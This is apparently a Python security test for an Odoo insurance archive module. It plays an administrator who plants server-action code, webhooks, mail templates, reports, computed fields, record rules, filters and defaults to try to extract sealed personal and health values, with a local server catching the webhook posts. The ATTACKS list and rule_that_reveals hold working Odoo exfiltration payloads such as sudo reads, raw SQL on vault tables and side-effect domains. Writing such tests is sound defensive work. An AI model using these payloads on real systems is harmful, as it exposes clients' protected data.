"""What an administrator of Odoo may set up to get at sealed values, and how it ends.

Actions, templates, fields, favourites, reports and rules hold code or paths that are
run by the server, some of them while the client's own agent works.
"""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import canary

SEALED = list(canary.MARKS)
REPORT = "x_attack.report"
#: runs as the action; ``record`` is the archive in the environment of its agent
CODE = """
record = env["insurance.archive"].browse(%(archive)s).with_user(%(agent)s)
contact = env["res.partner"].sudo().browse(%(elsewhere)s)
names = %(names)s
answer = "nothing"
%(attack)s
contact.write({"comment": str(answer)})
contact.message_post(body=str(answer))
env["ir.attachment"].sudo().create({"name": "loot", "raw": str(answer).encode()})
env["bus.bus"].sudo()._sendone("attack", "loot", {"answer": str(answer)})
log(str(answer))
raise UserError(str(answer))
"""
SILENT = CODE.replace("raise UserError(str(answer))", "")
ATTACKS = (
    "answer = record.reveal(names, 'claim')",
    "answer = record.sudo().reveal(names, 'claim')",
    "answer = record.read(names), record.sudo().read(names)",
    "answer = [record[name] for name in names]",
    "stated = record.with_context(insurance_purpose='claim')\n"
    "answer = stated.sudo().export_data(names)",
    "answer = record._unsealed(names, 'claim', 'test reader')",
    "answer = record._sealed_tails(record._sealed_fields(),"
    " record._sealed_cells(), set())",
    "answer = env['insurance.vault.value'].sudo().search([]).read()",
    "answer = env['insurance.vault.key'].sudo().search([]).read()",
    "env.cr.execute('SELECT sealed FROM insurance_vault_value LIMIT 500');"
    " answer = [bytes(row[0]) for row in env.cr.fetchall()]",
    "env.cr.execute('SELECT to_jsonb(a)::text FROM insurance_archive a');"
    " answer = env.cr.fetchall()",
    "answer = record._read_group([], [names[0]], ['__count'])",
    "answer = record._unsealed.__globals__",
    "answer = record._sealed_canonical(record._fields['id_number'], 'x')",
    "answer = env.cr.precommit.add(lambda: record.reveal(names, 'claim'))",
)
TEMPLATE = """
<p t-out="object.sudo().insurance_id_number"/>
<p t-out="object.insurance_archive_id.with_user(%(agent)s).read()"/>
<p t-out="object.insurance_archive_id.sudo().health_notice"/>
"""


def rule_that_reveals(target):
    """Return a rule on archives whose domain opens another client's value.

    It is evaluated where the agent opens a value, in just that call.
    """
    first, elsewhere = target["all"][0], target["contacts"][2]
    loot = (
        f"user.env['res.partner'].sudo().browse({elsewhere}).write({{'comment':"
        f" str(user.env['insurance.archive'].browse({first})"
        ".with_user(user.id).reveal(['id_number'], 'claim'))})"
    )
    # once only, and never in the way of other users
    domain = (
        "[(1, '=', 1)] if not user.has_group('insurance_client_archive.group_agent')"
        f" or user.env['res.partner'].sudo().browse({elsewhere}).function"
        f" else ([(1, '=', 1)], user.env['res.partner'].sudo().browse({elsewhere})"
        f".write({{'function': 'tried'}}), {loot})[0]"
    )
    return {
        "name": "Attack",
        "model_id": target["model"],
        "domain_force": domain,
        "groups": [],
    }


class Trap:
    """All that the administrator sets up, and a place for webhooks to call."""

    def __init__(self, administrator, agent_id, target, made):
        self.administrator, self.target, self.made = administrator, target, made
        self.places = {
            "archive": target["insurance.archive"],
            "agent": agent_id,
            "elsewhere": target["contacts"][1],
            "names": repr(SEALED),
        }
        self._received = []
        self.server = HTTPServer(("127.0.0.1", 0), self._handler())
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def received(self):
        return b"\n".join(self._received)

    def close(self):
        self.server.shutdown()
        self.server.server_close()

    def attacks(self, agent):
        """Yield (what, who calls, question)."""
        yield from self._actions(agent)
        yield from self._webhook(agent)
        yield from self._templates()
        yield from self._fields()
        yield from self._keepers()

    def make(self, model, /, **values):
        answer = self.administrator.call_kw(model, "create", [values], {})
        if answer.refused:
            return None
        self.made.append((model, answer.value[0]))
        return answer.value[0]

    def _actions(self, agent):
        for attack in ATTACKS:
            for code in (CODE, SILENT):
                values = {**self.places, "attack": attack}
                action = self.make(
                    "ir.actions.server",
                    name="Attack",
                    model_id=self.target["model"],
                    state="code",
                    code=code % values,
                )
                if action is None:
                    continue  # the code itself was refused
                call = ("ir.actions.server", "run", [action], {})
                yield attack, self.administrator, call
                # the agent is made to click on it
                yield f"{attack}, clicked by the agent", agent, call

    def _webhook(self, agent):
        fields = self.administrator.call_kw(
            "ir.model.fields",
            "search",
            None,
            {
                "domain": [
                    ["model", "=", "insurance.archive"],
                    ["name", "in", [*SEALED, "name"]],
                ]
            },
        )
        url = f"http://127.0.0.1:{self.server.server_port}/"
        action = self.make(
            "ir.actions.server",
            name="Attack",
            model_id=self.target["model"],
            state="webhook",
            webhook_url=url,
            webhook_field_ids=[[6, 0, fields.value]],
        )
        context = {
            "context": {
                "active_id": self.places["archive"],
                "active_ids": [self.places["archive"]],
                "active_model": "insurance.archive",
            }
        }
        call = ("ir.actions.server", "run", [action], context)
        yield "webhook", self.administrator, call
        yield "webhook, clicked by the agent", agent, call

    def _templates(self):
        template = self.make(
            "mail.template",
            name="Attack",
            model_id=self.target["partner_model"],
            subject="{{ object.insurance_id_number }}",
            body_html=TEMPLATE % self.places,
            email_to="attack@example.com",
        )
        contact = self.target["res.partner"]
        yield (
            "mail template",
            self.administrator,
            ("mail.template", "send_mail", [template], {"res_id": contact}),
        )
        yield (
            "rendered template",
            self.administrator,
            (
                "mail.template",
                "generate_email_for_composer",
                [template],
                {"res_ids": [contact], "render_fields": ["body_html", "subject"]},
            ),
        )
        arch = (
            f'<t t-name="{REPORT}"><t t-foreach="docs" t-as="doc">'
            '<p t-out="doc.sudo().insurance_archive_id.id_number"/>'
            f'<p t-out="doc.insurance_archive_id.with_user({self.places["agent"]})'
            '.read()"/></t></t>'
        )
        self.make("ir.ui.view", name=REPORT, key=REPORT, type="qweb", arch=arch)
        self.make(
            "ir.actions.report",
            name="Attack",
            model="res.partner",
            report_type="qweb-html",
            report_name=REPORT,
        )

    def _fields(self):
        for number, values in enumerate(
            (
                {"related": "insurance_archive_id.id_number"},
                {"related": "insurance_archive_id.health_notice", "store": True},
                {
                    "compute": "for record in self: record['x_attack_2'] ="
                    " str(record.sudo().insurance_archive_id.read())",
                    "depends": "insurance_archive_id",
                },
            )
        ):
            name = f"x_attack_{number}"
            made = self.make(
                "ir.model.fields",
                name=name,
                model_id=self.target["partner_model"],
                field_description="Attack",
                ttype="char",
                **values,
            )
            if made is None:
                continue
            contact = [self.target["res.partner"]]
            read = ("res.partner", "read", contact, {"fields": [name]})
            yield f"added field {values}", self.administrator, read
            group = {"domain": [], "groupby": [name], "aggregates": ["__count"]}
            grouped = ("res.partner", "formatted_read_group", None, group)
            yield f"added field {values}, grouped", self.administrator, grouped

    def _keepers(self):
        """Yield what would keep a value in the open: favourites and defaults."""
        value = canary.values(0)["id_number"]
        domain = f"[('id_number', '=', '{value}')]"
        favourite = {"name": "Attack", "model_id": "insurance.archive"}
        favourite |= {"domain": domain, "user_ids": []}
        create = ("ir.filters", "create", [favourite], {})
        yield "favourite", self.administrator, create
        for model, name in (
            ("insurance.archive", "health_notice"),
            ("res.partner", "insurance_health_notice"),
        ):
            default = {"model_name": model, "field_name": name}
            default["value"] = canary.values(0)["health_notice"]
            yield "default", self.administrator, ("ir.default", "set", None, default)

    def _handler(self):
        received = self._received

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                length = int(self.headers["Content-Length"])
                received.append(self.rfile.read(length))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args):
                """Not to the console."""

        return Handler


def remove(env, made):
    """Delete what the administrator made, the newest first."""
    for model, record_id in reversed(made):
        env[model].browse(record_id).exists().unlink()
    made.clear()
